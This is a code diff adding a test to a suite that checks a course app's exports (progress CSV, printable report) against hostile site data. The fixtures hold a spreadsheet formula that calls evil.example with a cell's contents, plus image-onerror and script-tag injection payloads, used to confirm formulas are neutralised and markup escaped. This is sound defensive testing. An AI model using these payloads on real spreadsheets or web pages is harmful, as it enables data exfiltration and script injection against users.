@@ -137,6 +137,36 @@ describe('exports of a hostile site', () => {
     }
   });
 
+  it('the progress CSV and printable page of hostile courses: formulas as text, markup escaped, odd dates kept whole', async () => {
+    const { db, handlers, files } = await syncedHostile(
+      (nodes) => {
+        Object.assign(nodes[0]!, {
+          title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+          instructorName: '<img src=x onerror=alert(1)>',
+          enrolledAt: 'not a date',
+          expireDate: '+275760-09-13T00:00:00.000Z',
+          hasLifetimeAccess: false,
+        });
+        Object.assign(nodes[1]!, { title: '<script>alert(1)</script>' });
+      },
+      'SyncCourses',
+      'enrolledCourses',
+    );
+    const courses = getLibrary(db, 'hostile', NOW).length;
+    await handlers['export:progress-csv']({ siteId: 'hostile', language: 'en' });
+    const rows = readCsv(files.at(-1)!.body);
+    expect(rows.length - 1).toBe(courses);
+    for (const row of rows.slice(1)) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.some((r) => r[1] === `'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe(true);
+    await handlers['export:progress-report']({ siteId: 'hostile', language: 'en' });
+    const page = files.at(-1)!;
+    for (const html of [page.body, page.printView!]) {
+      expect(html).not.toMatch(/<script>alert/);
+      expect(html).not.toMatch(/<img/);
+      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+    }
+  });
+
   it('the .ics carries no U+2028, U+2029 or U+0085 of the site (written as line breaks), and no year outside 0000-9999', async () => {
     const { db, handlers, files } = await syncedHostile(
       (nodes) => {
